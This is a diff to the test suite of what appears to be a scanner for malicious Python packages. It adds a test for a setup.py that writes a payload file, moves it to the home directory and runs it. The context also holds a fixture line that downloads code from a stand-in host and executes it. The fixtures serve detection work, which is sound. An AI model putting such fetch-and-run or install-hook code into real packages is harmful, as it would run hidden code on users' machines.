@@ -320,3 +320,15 @@ def test_vendored_six_with_exec_and_urllib_names_is_quiet(tmp_path):
     assert "download_execute" not in {i.id for i in _scan(tmp_path, {"botocore/vendored/six.py": six})}
     flow = "import urllib.request\nexec(urllib.request.urlopen('http://stage2.invalid/p').read())\n"
     assert _sev(_scan(tmp_path / "b", {"ok/run.py": flow}), "download_execute") == {"high"}
+
+
+def test_install_script_runs_a_script_it_wrote(tmp_path):
+    setup = ("import os, subprocess\nCODE = 'print(1)'\n"
+             "with open('helper-payload.py', 'w') as f:\n    f.write(CODE)\n"
+             "dest = os.path.expanduser('~')\nos.rename('helper-payload.py', dest + '/helper-payload.py')\n"
+             "subprocess.Popen(['python3', dest + '/helper-payload.py'])\n" + SETUP)
+    inds = _scan(tmp_path, {"setup.py": setup})
+    assert any(i.id == "setup_process" and i.severity == "high" and "wrote" in i.evidence for i in inds)
+    # a build step running a script that ships with the package stays a build tool
+    plain = "import subprocess\nsubprocess.check_call(['python3', 'tools/gen_version.py'])\n" + SETUP
+    assert _sev(_scan(tmp_path / "b", {"setup.py": plain}), "setup_process") == {"info"}
